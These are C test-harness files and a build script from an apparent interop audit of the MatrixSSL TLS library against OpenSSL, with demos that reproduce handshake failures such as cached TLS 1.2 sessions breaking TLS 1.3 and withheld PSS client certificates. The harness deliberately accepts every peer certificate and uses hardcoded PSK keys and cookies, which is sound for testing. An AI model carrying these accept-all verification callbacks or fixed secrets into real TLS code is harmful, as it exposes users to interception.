        .srvCert = RSA_CERT, .srvKey = RSA_KEY, .srvCA = RSA_CA, .oNumTickets = -1 };
    scen_t g1 = g0;
    /* H: RFC 5746: MatrixSSL server (as configured: USE_REHANDSHAKING off) never answers renegotiation_info */
    scen_t h1 = e0;

    e1.name = "E: same, server cert sha512WithRSA (OpenSSL default sigalgs)";
    e1.srvCert = R512_CERT; e1.srvCA = R512_CA;
    e2 = e0;
    e2.name = "E: MatrixSSL client with sha512WithRSA client cert, TLS1.2 client auth";
    e2.mxServer = 0; e2.clientAuth = 1; e2.cliCert = R512_CERT; e2.cliKey = RSA_KEY; e2.cliCA = R512_CA;
    f1.name = "F: same, MatrixSSL client cert signed with RSASSA-PSS";
    f1.cliCert = PSS_CERT; f1.cliKey = PSS_KEY; f1.cliCA = PSS_CA;
    f2 = f1;
    f2.name = "F sibling: MatrixSSL SERVER with that PSS certificate";
    f2.mxServer = 1; f2.clientAuth = 0; f2.srvCert = PSS_CERT; f2.srvKey = PSS_KEY; f2.srvCA = PSS_CA;
    g1.name = "G: OpenSSL sends KeyUpdate(update_not_requested) after the first payload";
    g1.oKeyUpdate = 1;
    h1.name = "H: E control without SSL_OP_LEGACY_SERVER_CONNECT (OpenSSL 3 default)";
    h1.oOptsSet = 0;

    if (matrixSslOpen() < 0) return 2;
    run(&e0, why, sizeof(why));
    n += run(&e1, why, sizeof(why)) != 0;
    n += run(&e2, why, sizeof(why)) != 0;
    run(&f0, why, sizeof(why));
    n += run(&f1, why, sizeof(why)) != 0;
    run(&f2, why, sizeof(why));
    run(&g0, why, sizeof(why));
    n += run(&g1, why, sizeof(why)) != 0;
    printf("    (alert sent by MatrixSSL on KeyUpdate: %s)\n", alertStr(g_oAlertRead));
    n += run(&h1, why, sizeof(why)) != 0;
    matrixSslClose();
    printf("%d additional interop failures reproduced\n", n);
    return n ? 1 : 0;
}
