/*
 * demo2 - the TLS 1.3 transcript hash of a MatrixSSL client is initialised from the cipher suite
 * of the cached TLS 1.2 session it offers, not from the suite the server selects.
 *
 * History: connection 0 to an OpenSSL server that (still) speaks TLS 1.2 only negotiates
 * ECDHE-RSA-AES256-GCM-SHA384 (MatrixSSL's first choice).  The server is then allowed to speak
 * TLS 1.3 (upgrade / other node of a farm).  Connection 1 offers {1.3,1.2,1.1} together with the
 * cached session; the server selects TLS 1.3 with TLS_AES_128_GCM_SHA256 (the client's first
 * 1.3 suite).  The client has only a SHA-384 transcript, derives wrong handshake keys and kills
 * the connection with bad_record_mac.
 */
#include "demo_common.h"

int main(void)
{
    char why[600];
    int rcControl, rcControl2, rcBug, alert;
    scen_t bug = { .name = "cached 1.2 session AES256-GCM-SHA384, then TLS 1.3 AES_128_GCM_SHA256",
        .mxServer = 0, .verMin = TLS1_2_VERSION, .verMax = TLS1_2_VERSION,
        .resVerMin = TLS1_2_VERSION, .resVerMax = TLS1_3_VERSION,
        .mxVers = { v_tls_1_3, v_tls_1_2, v_tls_1_1 }, .mxVersLen = 3,
        .srvCert = RSA_CERT, .srvKey = RSA_KEY, .srvCA = RSA_CA,
        .oNoTicket = 1, .oNumTickets = -1, .resume = 1, .resumeOptional = 1 };
    /* control 1: no cached session (fresh session id object) - same second connection */
    scen_t control = bug;
    /* control 2: the cached TLS 1.2 suite has the same hash as the TLS 1.3 suite */
    scen_t control2 = bug;
    control.name = "control: TLS 1.3 connection without a cached session";
    control.verMin = TLS1_2_VERSION; control.verMax = TLS1_3_VERSION; control.resume = 0;
    control2.name = "control: cached 1.2 session AES128-GCM-SHA256, then TLS 1.3 AES_128_GCM_SHA256";
    control2.oCiphers = "ECDHE-RSA-AES128-GCM-SHA256:@SECLEVEL=0";

    if (matrixSslOpen() < 0) return 2;
    printf("MatrixSSL client {1.3,1.2,1.1} <-> OpenSSL %s server; connection 0 is TLS 1.2,\n"
           "for connection 1 the server also accepts TLS 1.3:\n", OpenSSL_version(OPENSSL_VERSION_STRING));
    rcControl = run(&control, why, sizeof(why));
    rcControl2 = run(&control2, why, sizeof(why));
    rcBug = run(&bug, why, sizeof(why));
    alert = g_oAlertRead;
    matrixSslClose();
    if (rcControl != 0 || rcControl2 != 0)
    {
        printf("control failed: harness problem\n");
        return 2;
    }
    if (rcBug != 0)
    {
        printf("VIOLATION: with a cached TLS 1.2 SHA-384 session the client cannot complete a TLS 1.3 handshake "
               "that selects a SHA-256 suite (alert sent by MatrixSSL: %s): the transcript hash follows the "
               "cached suite, not the negotiated one\n", alertStr(alert));
        return 1;
    }
    printf("OK: no violation observed\n");
    return 0;
}
