/*
 * demo1 - a TLS 1.3-enabled MatrixSSL client that offers a cached TLS 1.2 session id cannot
 * complete the handshake when the server declines the resumption (full handshake under a new
 * session id).
 *
 * Peer: OpenSSL, TLS 1.2 only, session-id cache. Between connection 0 and 1 the server is
 * "restarted" (new SSL_CTX: every cached session is gone), so for connection 1 it answers the
 * offered session id with a full TLS 1.2 handshake and a new session id - the normal RFC 5246
 * 7.4.1.3 behaviour every client has to accept.
 */
#include "demo_common.h"

int main(void)
{
    char why[600];
    int rcControl, rcBug, rcBug2;
    int alert1, alert2;
    /* control: the same history with a MatrixSSL client that only enables TLS 1.2 */
    scen_t control = { .name = "control: client versions {1.2}, server forgets session",
        .mxServer = 0, .verMin = TLS1_2_VERSION, .verMax = TLS1_2_VERSION,
        .mxVers = { v_tls_1_2 }, .mxVersLen = 1,
        .srvCert = RSA_CERT, .srvKey = RSA_KEY, .srvCA = RSA_CA,
        .oNoTicket = 1, .oNumTickets = -1, .resume = 1, .resumeOptional = 1, .oForget = 1 };
    /* library default version set: TLS 1.3, 1.2, 1.1 */
    scen_t bug = control;
    scen_t bug2;
    bug.name = "client versions {1.3,1.2,1.1}, server forgets session";
    bug.mxVers[0] = v_tls_1_3; bug.mxVers[1] = v_tls_1_2; bug.mxVers[2] = v_tls_1_1; bug.mxVersLen = 3;
    /* same, but the server's new full handshake picks another suite than the cached one */
    bug2 = bug;
    bug2.name = "same, server now prefers another suite";
    bug2.oCiphers = "ECDHE-RSA-AES256-GCM-SHA384:ECDHE-RSA-AES128-GCM-SHA256:@SECLEVEL=0";
    bug2.oCiphers2 = "ECDHE-RSA-AES128-GCM-SHA256:@SECLEVEL=0";

    if (matrixSslOpen() < 0) return 2;
    printf("MatrixSSL client <-> OpenSSL %s server (TLS 1.2 only); connection 0 full handshake,\n"
           "server loses its session cache, connection 1 offers the cached session id:\n",
           OpenSSL_version(OPENSSL_VERSION_STRING));
    rcControl = run(&control, why, sizeof(why));
    rcBug = run(&bug, why, sizeof(why));
    alert1 = g_oAlertRead;
    rcBug2 = run(&bug2, why, sizeof(why));
    alert2 = g_oAlertRead;
    matrixSslClose();
    if (rcControl != 0)
    {
        printf("control failed: harness problem\n");
        return 2;
    }
    if (rcBug != 0 || rcBug2 != 0)
    {
        printf("VIOLATION: a MatrixSSL client with TLS 1.3 enabled aborts the TLS 1.2 full handshake by which "
               "the server declines the offered session id (alerts sent by MatrixSSL: %s", alertStr(alert1));
        printf(" / %s); the TLS 1.2-only client completes it\n", alertStr(alert2));
        return 1;
    }
    printf("OK: no violation observed\n");
    return 0;
}
