#!/bin/sh
# Builds all demos of the C10 audit against the static libraries of the worktree.
# Run `make -j4` at the worktree top level first.
set -e
HERE=$(cd "$(dirname "$0")" && pwd)
TOP=$(cd "$HERE/../.." && pwd)
CFLAGS="-O1 -g -Wall -Wno-unused-function -Wno-stringop-overread -I$TOP -I$TOP/core/config -I$TOP/core/include -I$TOP/core/osdep/include -I$TOP/core/include/sfzcl -DUSE_CL_PKCS -DUSE_CL_CERTLIB -DKEYDIR=\"$TOP/testkeys\""
LIBS="$TOP/matrixssl/libssl_s.a $TOP/crypto/libcrypt_s.a $TOP/core/libcore_s.a -lssl -lcrypto -lpthread"
for src in "$HERE"/demo*.c "$HERE"/explore*.c; do
    [ -f "$src" ] || continue
    out="${src%.c}"
    echo "cc $(basename "$src")"
    cc $CFLAGS -o "$out" "$src" $LIBS
done
