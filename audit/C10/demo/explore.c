/* explore.c - scenario sweep used while auditing (not a deliverable demo) */
#include "interop.h"

#define RSA_CERT KEYDIR "/RSA/2048_RSA.pem"
#define RSA_KEY  KEYDIR "/RSA/2048_RSA_KEY.pem"
#define RSA_CA   KEYDIR "/RSA/2048_RSA_CA.pem"
#define RSA3_CERT KEYDIR "/RSA/3072_RSA.pem"
#define RSA3_KEY  KEYDIR "/RSA/3072_RSA_KEY.pem"
#define RSA3_CA   KEYDIR "/RSA/3072_RSA_CA.pem"
#define PSS_CERT KEYDIR "/RSA/2048_RSA_PSS.pem"
#define PSS_KEY  KEYDIR "/RSA/2048_RSA_PSS_KEY.pem"
#define PSS_CA   KEYDIR "/RSA/2048_RSA_PSS_CA.pem"
#define EC256_CERT KEYDIR "/EC/256_EC.pem"
#define EC256_KEY  KEYDIR "/EC/256_EC_KEY.pem"
#define EC256_CA   KEYDIR "/EC/256_EC_CA.pem"
#define EC384_CERT KEYDIR "/EC/384_EC.pem"
#define EC384_KEY  KEYDIR "/EC/384_EC_KEY.pem"
#define EC384_CA   KEYDIR "/EC/384_EC_CA.pem"
#define EC521_CERT KEYDIR "/EC/521_EC.pem"
#define EC521_KEY  KEYDIR "/EC/521_EC_KEY.pem"
#define EC521_CA   KEYDIR "/EC/521_EC_CA.pem"
#define ED_CERT KEYDIR "/EC/ED25519.pem"
#define ED_KEY  KEYDIR "/EC/ED25519_KEY.pem"
#define ED_CA   KEYDIR "/EC/ED25519_CA.pem"

#define KEYS_RSA  .srvCert = RSA_CERT, .srvKey = RSA_KEY, .srvCA = RSA_CA
#define KEYS_EC256 .srvCert = EC256_CERT, .srvKey = EC256_KEY, .srvCA = EC256_CA
#define KEYS_EC384 .srvCert = EC384_CERT, .srvKey = EC384_KEY, .srvCA = EC384_CA
#define KEYS_EC521 .srvCert = EC521_CERT, .srvKey = EC521_KEY, .srvCA = EC521_CA
#define KEYS_ED .srvCert = ED_CERT, .srvKey = ED_KEY, .srvCA = ED_CA
#define KEYS_PSS .srvCert = PSS_CERT, .srvKey = PSS_KEY, .srvCA = PSS_CA
#define CLI_RSA .clientAuth = 1, .cliCert = RSA3_CERT, .cliKey = RSA3_KEY, .cliCA = RSA3_CA
#define CLI_EC384 .clientAuth = 1, .cliCert = EC384_CERT, .cliKey = EC384_KEY, .cliCA = EC384_CA
#define CLI_EC521 .clientAuth = 1, .cliCert = EC521_CERT, .cliKey = EC521_KEY, .cliCA = EC521_CA
#define CLI_ED .clientAuth = 1, .cliCert = ED_CERT, .cliKey = ED_KEY, .cliCA = ED_CA
#define CLI_PSS .clientAuth = 1, .cliCert = PSS_CERT, .cliKey = PSS_KEY, .cliCA = PSS_CA

#define V13 .verMin = TLS1_3_VERSION, .verMax = TLS1_3_VERSION, .mxVers = { v_tls_1_3 }, .mxVersLen = 1
#define LEG .oOptsSet = SSL_OP_LEGACY_SERVER_CONNECT
#define V12 .verMin = TLS1_2_VERSION, .verMax = TLS1_2_VERSION, .mxVers = { v_tls_1_2 }, .mxVersLen = 1
#define V11 .verMin = TLS1_1_VERSION, .verMax = TLS1_1_VERSION, .mxVers = { v_tls_1_1 }, .mxVersLen = 1
#define VALL .verMin = TLS1_1_VERSION, .verMax = TLS1_3_VERSION, .mxVers = { v_tls_1_3, v_tls_1_2, v_tls_1_1 }, .mxVersLen = 3
#define D12 .dtls = 1, .verMin = DTLS1_2_VERSION, .verMax = DTLS1_2_VERSION, .mxVersionFlag = SSL_FLAGS_DTLS | SSL_FLAGS_TLS_1_2
#define D10 .dtls = 1, .verMin = DTLS1_VERSION, .verMax = DTLS1_VERSION, .mxVersionFlag = SSL_FLAGS_DTLS | SSL_FLAGS_TLS_1_1

static scen_t S[] = {
#include "scenarios.inc"
};

int main(int argc, char **argv)
{
    unsigned i;
    int fails = 0;
    const char *filter = argc > 1 ? argv[1] : NULL;
    char fail[600];

    if (getenv("V")) g_verbose = atoi(getenv("V"));
    if (matrixSslOpen() < 0) { printf("matrixSslOpen failed\n"); return 2; }
    for (i = 0; i < sizeof(S) / sizeof(S[0]); i++)
    {
        int both;
        if (filter && !strstr(S[i].name, filter)) continue;
        for (both = 0; both < 2; both++)
        {
            scen_t s = S[i];
            if (s.mxServer == 2) s.mxServer = both; else if (both) break;
            fail[0] = 0;
            if (runScenario(&s, fail, sizeof(fail)) < 0)
            {
                printf("FAIL %-40s mx=%s : %s\n", s.name, s.mxServer ? "server" : "client", fail);
                fails++;
            }
            else
            {
                printf("ok   %-40s mx=%s\n", s.name, s.mxServer ? "server" : "client");
            }
            fflush(stdout);
        }
    }
    matrixSslClose();
    printf("%d failures\n", fails);
    return fails ? 1 : 0;
}
