/*
 * demo6 - a TLS 1.3 MatrixSSL client whose own certificate is SIGNED with RSASSA-PSS (or Ed25519)
 * answers CertificateRequest with an empty Certificate although the server's
 * signature_algorithms list the scheme: tls13WriteCertificate() (matrixssl/tls13Encode.c) only
 * knows PKCS#1 v1.5-RSA and ECDSA certificate signature OIDs.  A MatrixSSL server with the same
 * certificate works.
 */
#include "demo_common.h"

#define PSS_CERT KEYDIR "/RSA/2048_RSA_PSS.pem"
#define PSS_KEY  KEYDIR "/RSA/2048_RSA_PSS_KEY.pem"
#define PSS_CA   KEYDIR "/RSA/2048_RSA_PSS_CA.pem"

int main(int argc, char **argv)
{
    char why[600];
    int rc0, rc1, rc2 = 0, rc3;
    scen_t f0 = { .name = "control: TLS1.3 client auth, MatrixSSL client cert sha256WithRSA",
        .mxServer = 0, .verMin = TLS1_3_VERSION, .verMax = TLS1_3_VERSION, .mxVers = { v_tls_1_3 }, .mxVersLen = 1,
        .srvCert = RSA_CERT, .srvKey = RSA_KEY, .srvCA = RSA_CA,
        .clientAuth = 1, .cliCert = RSA3_CERT, .cliKey = RSA3_KEY, .cliCA = RSA3_CA, .oNumTickets = -1 };
    scen_t f1 = f0, f2 = f0, f3 = f0;
    f1.name = "MatrixSSL client cert signed with RSASSA-PSS";
    f1.cliCert = PSS_CERT; f1.cliKey = PSS_KEY; f1.cliCA = PSS_CA;
    /* optional: an Ed25519-signed EC client certificate, made with the openssl tool (see build.sh) */
    f2.name = "MatrixSSL client cert (P-256 key) signed with Ed25519";
    if (argc > 3) { f2.cliCert = argv[1]; f2.cliKey = argv[2]; f2.cliCA = argv[3]; }
    /* the server does not list the certificate's signature scheme: an empty Certificate is right */
    f3 = f1;
    f3.name = "negative: PSS-signed cert, server lists only ecdsa_secp256r1_sha256";
    f3.oClientSigalgs = "ecdsa_secp256r1_sha256";

    if (matrixSslOpen() < 0) return 2;
    rc0 = run(&f0, why, sizeof(why));
    rc1 = run(&f1, why, sizeof(why));
    if (argc > 3) rc2 = run(&f2, why, sizeof(why));
    rc3 = run(&f3, why, sizeof(why));
    matrixSslClose();
    if (rc0 != 0) { printf("control failed: harness problem\n"); return 2; }
    if (rc3 == 0) { printf("negative case unexpectedly sent a certificate the server cannot verify\n"); return 2; }
    if (rc1 != 0 || rc2 != 0)
    {
        printf("VIOLATION: the client withholds a certificate whose signature scheme the server listed\n");
        return 1;
    }
    printf("OK: no violation observed\n");
    return 0;
}
