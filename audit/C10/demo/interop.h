/*
 * interop.h - in-memory interop harness: one MatrixSSL endpoint against one
 * OpenSSL (independent stack) endpoint, connected through byte buffers.
 * Used by the demoN.c programs of the C10 audit.
 */
#ifndef INTEROP_H
#define INTEROP_H

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <stdint.h>
#include <time.h>

#include <openssl/ssl.h>
#include <openssl/err.h>
#include <openssl/rand.h>

#include "matrixssl/matrixsslApi.h"

#ifndef KEYDIR
# define KEYDIR "../../testkeys"
#endif

typedef struct
{
    const char *name;
    int mxServer;              /* 1: MatrixSSL is the server, OpenSSL the client */
    int dtls;
    int verMin, verMax;        /* OpenSSL side: TLS1_1_VERSION... / DTLS1_VERSION... */
    uint32_t mxVers[4];        /* MatrixSSL side version list (v_tls_1_2 ...) */
    int mxVersLen;
    uint32_t mxVersionFlag;    /* alternative: sslSessOpts_t.versionFlag (DTLS) */
    const char *oCiphers;      /* OpenSSL <=1.2 cipher list (NULL: default@SECLEVEL=0) */
    const char *oSuites13;     /* OpenSSL TLS1.3 ciphersuites (NULL: default) */
    const char *oGroups;       /* OpenSSL groups list */
    const char *oSigalgs;      /* OpenSSL sigalgs */
    const char *oClientSigalgs;
    uint16_t mxCiphers[8];     /* MatrixSSL client: cipherSpec */
    int mxCiphersLen;
    uint16_t mxGroups[8];
    int mxGroupsLen;
    int mxNumShares;
    uint16_t mxSigalgs[16];
    int mxSigalgsLen;
    const char *srvCert, *srvKey, *srvCA;  /* server identity + CA of it */
    const char *cliCert, *cliKey, *cliCA;  /* client identity (clientAuth) */
    int clientAuth;
    int noEms;                 /* 1: OpenSSL disables EMS; 2: MatrixSSL disables; 3: both */
    int oNoTicket;             /* OpenSSL: SSL_OP_NO_TICKET */
    int mxTicket;              /* MatrixSSL client: options.ticketResumption */
    int mxMaxFrag;             /* MatrixSSL client: max_fragment_length */
    int oMaxFrag;              /* OpenSSL client: TLSEXT_max_fragment_length_* */
    int resume;                /* number of resumed connections to make after the first */
    int psk12;                 /* TLS<=1.2 PSK suites */
    int psk13;                 /* TLS1.3 external PSK: 1 = sha256, 2 = sha384 */
    int oNoMiddlebox;          /* OpenSSL: clear SSL_OP_ENABLE_MIDDLEBOX_COMPAT */
    int oKeyUpdate;            /* OpenSSL sends KeyUpdate(1: not requested, 2: requested) after first payload */
    int oNumTickets;           /* OpenSSL server: number of tickets (-1 default) */
    int oBlockPad;             /* OpenSSL block padding */
    int mxBlockPad;            /* MatrixSSL tls13BlockSize */
    int oCookie;               /* DTLS: OpenSSL server does cookie exchange */
    int oMtu;                  /* DTLS: OpenSSL MTU */
    int oSplitSend;            /* SSL_MODE? max_send_fragment for OpenSSL */
    int oEtm;                  /* 1: leave encrypt-then-mac on in OpenSSL */
    int oPha;                  /* OpenSSL server: do post-handshake auth (TLS1.3) */
    int oReneg;                /* OpenSSL initiates renegotiation after handshake */
    int feedChunk;             /* feed MatrixSSL in chunks of this many bytes (0 = all) */
    const int *sizes;          /* payload sizes, 0-terminated (default set if NULL) */
    int verbose;
    unsigned long oOptsSet, oOptsClear;
    int earlyData;             /* try 0-RTT on resumption: 1 = ossl client sends */
    int oRecSizeLimit;
    int dropMx;                /* DTLS: drop the n-th (1-based) datagram MatrixSSL sends during the handshake */
    int dropO;                 /* DTLS: drop the n-th record OpenSSL sends during the handshake */
    int oForget;               /* OpenSSL server forgets all sessions between connections (new SSL_CTX) */
    int earlyLen;              /* bytes of early data to send */
    int resVerMin, resVerMax;  /* OpenSSL version range for connections > 0 (0: same) */
    uint32_t mxVers2[4]; int mxVers2Len; /* MatrixSSL versions for connections > 0 */
    int resumeOptional;        /* resumed connections may legitimately be full handshakes */
    const char *oCiphers2;     /* OpenSSL cipher list for connections > 0 */
    const char *oSuites13_2;
    uint16_t mxCiphers2[8]; int mxCiphers2Len;
} scen_t;

typedef struct
{
    const scen_t *sc;
    ssl_t *mx;
    sslKeys_t *mxKeys;
    sslSessionId_t *mxSid;
    SSL_CTX *octx;
    SSL *o;
    BIO *rbio, *wbio;          /* OpenSSL reads from rbio, writes to wbio */
    SSL_SESSION *osess;
    int mxDone, oDone;
    int mxAlertLevel, mxAlertDesc; /* alert received by MatrixSSL */
    int mxErr;
    unsigned char *mxRx; size_t mxRxLen, mxRxCap;
    char fail[512];
    int conn;                  /* connection index (0 = first) */
    int oEarlyDone;            /* OpenSSL early data phase finished */
    unsigned char oEarly[20000]; size_t oEarlyLen; /* early data OpenSSL server read */
    int mxSentAny;
    int mxDgrams, oRecs;       /* counters for the drop schedule */
    int earlySent;             /* bytes of early data sent on this connection */
} ctxt_t;

static const int g_defaultSizes[] = { 1, 15, 16, 17, 255, 1024, 16383, 16384, 16385, 40000, 0 };

static int g_verbose = 0;
static int g_mxMaxEpochSeen = 0; /* highest DTLS epoch in any record MatrixSSL put on the wire */
static int g_mxResends = 0;      /* flights MatrixSSL retransmitted */

#define FAILF(c, ...) do { if (!(c)->fail[0]) snprintf((c)->fail, sizeof((c)->fail), __VA_ARGS__); } while (0)

static int32_t mxCertCb(ssl_t *ssl, psX509Cert_t *cert, int32_t alert)
{
    (void) ssl; (void) cert; (void) alert;
    return 0; /* accept: certificate validation is not the subject here */
}

static int oVerifyCb(int ok, X509_STORE_CTX *x)
{
    (void) ok; (void) x;
    return 1;
}

static const unsigned char g_psk12[16] = { 1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16 };
static const char g_psk12Id[] = "Client_identity";
static const unsigned char g_psk13[48] = {
    0x11,0x22,0x33,0x44,0x55,0x66,0x77,0x88,0x99,0xaa,0xbb,0xcc,0xdd,0xee,0xff,0x01,
    0x12,0x23,0x34,0x45,0x56,0x67,0x78,0x89,0x9a,0xab,0xbc,0xcd,0xde,0xef,0xf0,0x02,
    0x13,0x24,0x35,0x46,0x57,0x68,0x79,0x8a,0x9b,0xac,0xbd,0xce,0xdf,0xe0,0xf1,0x03 };
static const unsigned char g_psk13Id[] = "ext-psk-id-0001";

static unsigned int oPskClientCb(SSL *ssl, const char *hint, char *identity,
        unsigned int max_identity_len, unsigned char *psk, unsigned int max_psk_len)
{
    (void) ssl; (void) hint;
    snprintf(identity, max_identity_len, "%s", g_psk12Id);
    if (max_psk_len < sizeof(g_psk12)) return 0;
    memcpy(psk, g_psk12, sizeof(g_psk12));
    return sizeof(g_psk12);
}
static unsigned int oPskServerCb(SSL *ssl, const char *identity,
        unsigned char *psk, unsigned int max_psk_len)
{
    (void) ssl;
    if (strcmp(identity, g_psk12Id) != 0) return 0;
    if (max_psk_len < sizeof(g_psk12)) return 0;
    memcpy(psk, g_psk12, sizeof(g_psk12));
    return sizeof(g_psk12);
}

static int g_psk13Mode = 0;
static SSL_SESSION *mkPsk13Session(SSL *ssl)
{
    /* TLS_AES_128_GCM_SHA256 = 0x13,0x01 ; TLS_AES_256_GCM_SHA384 = 0x13,0x02 */
    const unsigned char id256[2] = { 0x13, 0x01 }, id384[2] = { 0x13, 0x02 };
    const SSL_CIPHER *c = SSL_CIPHER_find(ssl, g_psk13Mode == 2 ? id384 : id256);
    SSL_SESSION *s = SSL_SESSION_new();
    if (!c || !s) return NULL;
    SSL_SESSION_set1_master_key(s, g_psk13, g_psk13Mode == 2 ? 48 : 32);
    SSL_SESSION_set_cipher(s, c);
    SSL_SESSION_set_protocol_version(s, TLS1_3_VERSION);
    return s;
}
static int oPsk13UseCb(SSL *ssl, const EVP_MD *md, const unsigned char **id,
        size_t *idlen, SSL_SESSION **sess)
{
    (void) md;
    *sess = mkPsk13Session(ssl);
    if (*sess == NULL) return 0;
    *id = g_psk13Id;
    *idlen = sizeof(g_psk13Id) - 1;
    return 1;
}
static int oPsk13FindCb(SSL *ssl, const unsigned char *identity, size_t identity_len,
        SSL_SESSION **sess)
{
    *sess = NULL;
    if (identity_len == sizeof(g_psk13Id) - 1 && !memcmp(identity, g_psk13Id, identity_len))
    {
        *sess = mkPsk13Session(ssl);
    }
    return 1;
}

static SSL_SESSION *g_newSess = NULL;
static int g_newSessCount = 0;
static int oNewSessCb(SSL *ssl, SSL_SESSION *sess)
{
    (void) ssl;
    if (g_newSess) SSL_SESSION_free(g_newSess);
    g_newSess = sess; /* take ownership */
    g_newSessCount++;
    return 1;
}

static int oCookieGen(SSL *ssl, unsigned char *cookie, unsigned int *len)
{
    (void) ssl;
    memcpy(cookie, "0123456789abcdef", 16);
    *len = 16;
    return 1;
}
static int oCookieVerify(SSL *ssl, const unsigned char *cookie, unsigned int len)
{
    (void) ssl;
    return len == 16 && !memcmp(cookie, "0123456789abcdef", 16);
}

static void dumpDtls(const char *tag, const unsigned char *b, int n)
{
    int off = 0;
    while (off + 13 <= n)
    {
        int rl = (b[off + 11] << 8) | b[off + 12], i;
        fprintf(stderr, "      %s rec ct=%d epoch=%d seq=%d len=%d :", tag, b[off], (b[off+3]<<8)|b[off+4], (b[off+9]<<8)|b[off+10], rl);
        for (i = 0; i < rl && i < 24; i++) fprintf(stderr, " %02x", b[off + 13 + i]);
        fprintf(stderr, "\n");
        off += 13 + rl;
    }
}

static void noteEpochs(const unsigned char *b, int n)
{
    int off = 0;
    while (off + 13 <= n)
    {
        int ep = (b[off + 3] << 8) | b[off + 4];
        if (ep > g_mxMaxEpochSeen) g_mxMaxEpochSeen = ep;
        off += 13 + ((b[off + 11] << 8) | b[off + 12]);
    }
}

static void rxAppend(ctxt_t *c, const unsigned char *p, size_t n)
{
    if (c->mxRxLen + n > c->mxRxCap)
    {
        c->mxRxCap = (c->mxRxLen + n) * 2 + 1024;
        c->mxRx = realloc(c->mxRx, c->mxRxCap);
    }
    memcpy(c->mxRx + c->mxRxLen, p, n);
    c->mxRxLen += n;
}

/* Move everything MatrixSSL wants to send into OpenSSL's read BIO */
static int mxFlush(ctxt_t *c)
{
    unsigned char *buf;
    int32 len, rc, total = 0;

    if (c->sc->dtls && matrixSslGetOutdata(c->mx, &buf) <= 0)
    {
        return 0; /* nothing pending: do not provoke a flight resend */
    }
    for (;;)
    {
        if (c->sc->dtls)
        {
            len = matrixDtlsGetOutdata(c->mx, &buf);
        }
        else
        {
            len = matrixSslGetOutdata(c->mx, &buf);
        }
        if (len <= 0)
        {
            break;
        }
        if (g_verbose > 1)
        {
            fprintf(stderr, "   mx->ossl %d bytes [%02x %02x %02x %02x %02x]\n", len, buf[0], buf[1], buf[2], buf[3], buf[4]);
            if (c->sc->dtls && g_verbose > 3) dumpDtls("mx", buf, len);
        }
        if (c->sc->dtls) noteEpochs(buf, len);
        c->mxSentAny = 1;
        if (c->sc->dtls && c->sc->dropMx && !(c->mxDone && c->oDone) && ++c->mxDgrams == c->sc->dropMx)
        {
            if (g_verbose) fprintf(stderr, "   [dropped mx datagram #%d, %d bytes]\n", c->mxDgrams, len);
        }
        else
        {
            BIO_write(c->rbio, buf, len);
        }
        total += len;
        if (c->sc->dtls)
        {
            rc = matrixDtlsSentData(c->mx, len);
        }
        else
        {
            rc = matrixSslSentData(c->mx, len);
        }
        if (rc == MATRIXSSL_HANDSHAKE_COMPLETE)
        {
            c->mxDone = 1;
        }
        else if (rc == MATRIXSSL_REQUEST_CLOSE)
        {
            break;
        }
        else if (rc < 0)
        {
            c->mxErr = rc;
            FAILF(c, "matrixSslSentData rc=%d", rc);
            return -1;
        }
    }
    return total;
}

static int mxHandleRc(ctxt_t *c, int32 rc, unsigned char *pt, uint32 ptlen)
{
    for (;;)
    {
        switch (rc)
        {
        case MATRIXSSL_REQUEST_SEND:
            if (mxFlush(c) < 0) return -1;
            return 0;
        case MATRIXSSL_REQUEST_RECV:
        case MATRIXSSL_SUCCESS:
            return 0;
        case MATRIXSSL_HANDSHAKE_COMPLETE:
            c->mxDone = 1;
            return 0;
        case MATRIXSSL_APP_DATA:
            rxAppend(c, pt, ptlen);
            rc = matrixSslProcessedData(c->mx, &pt, &ptlen);
            continue;
        case MATRIXSSL_RECEIVED_ALERT:
            c->mxAlertLevel = pt[0];
            c->mxAlertDesc = pt[1];
            if (g_verbose) fprintf(stderr, "   mx received alert level %d desc %d\n", pt[0], pt[1]);
            if (pt[0] == 2) { FAILF(c, "MatrixSSL received fatal alert %d from OpenSSL", pt[1]); return -1; }
            rc = matrixSslProcessedData(c->mx, &pt, &ptlen);
            continue;
        default:
            if (rc < 0)
            {
                c->mxErr = rc;
                mxFlush(c); /* let the alert out */
                FAILF(c, "MatrixSSL returned error %d", rc);
                return -1;
            }
            FAILF(c, "MatrixSSL unexpected rc %d", rc);
            return -1;
        }
    }
}

/* Feed bytes to MatrixSSL */
static int mxFeed(ctxt_t *c, const unsigned char *data, size_t len)
{
    unsigned char *buf, *pt;
    uint32 ptlen;
    int32 n, rc;

    while (len > 0)
    {
        size_t take;
        n = matrixSslGetReadbuf(c->mx, &buf);
        if (n <= 0) { FAILF(c, "matrixSslGetReadbuf %d", n); return -1; }
        take = (size_t) n < len ? (size_t) n : len;
        if (c->sc->feedChunk && take > (size_t) c->sc->feedChunk) take = c->sc->feedChunk;
        memcpy(buf, data, take);
        data += take; len -= take;
        rc = matrixSslReceivedData(c->mx, take, &pt, &ptlen);
        if (mxHandleRc(c, rc, pt, ptlen) < 0) return -1;
    }
    /* poll for leftovers */
    rc = matrixSslReceivedData(c->mx, 0, &pt, &ptlen);
    if (rc != PS_SUCCESS)
    {
        if (mxHandleRc(c, rc, pt, ptlen) < 0) return -1;
    }
    return 0;
}

/* Move everything OpenSSL has written into MatrixSSL. DTLS: one record at a time */
static int oFlush(ctxt_t *c)
{
    static unsigned char tmp[1 << 18];
    int n, total = 0;

    while ((n = BIO_read(c->wbio, tmp, sizeof(tmp))) > 0)
    {
        total += n;
        if (g_verbose > 1)
        {
            fprintf(stderr, "   ossl->mx %d bytes [%02x %02x %02x %02x %02x]\n", n, tmp[0], tmp[1], tmp[2], tmp[3], tmp[4]);
        }
        if (c->sc->dtls && g_verbose > 3) dumpDtls("ossl", tmp, n);
        if (c->sc->dtls)
        {
            int off = 0;
            while (off + 13 <= n)
            {
                int rl = 13 + ((tmp[off + 11] << 8) | tmp[off + 12]);
                if (off + rl > n) rl = n - off;
                if (c->sc->dropO && !(c->mxDone && c->oDone) && ++c->oRecs == c->sc->dropO)
                {
                    if (g_verbose) fprintf(stderr, "   [dropped ossl record #%d, %d bytes, type %d]\n", c->oRecs, rl, tmp[off]);
                    off += rl;
                    continue;
                }
                if (mxFeed(c, tmp + off, rl) < 0) return -1;
                off += rl;
            }
        }
        else
        {
            if (mxFeed(c, tmp, n) < 0) return -1;
        }
    }
    return total;
}

static void oErr(ctxt_t *c, const char *what, int ret)
{
    int e = SSL_get_error(c->o, ret);
    unsigned long q = ERR_peek_error();
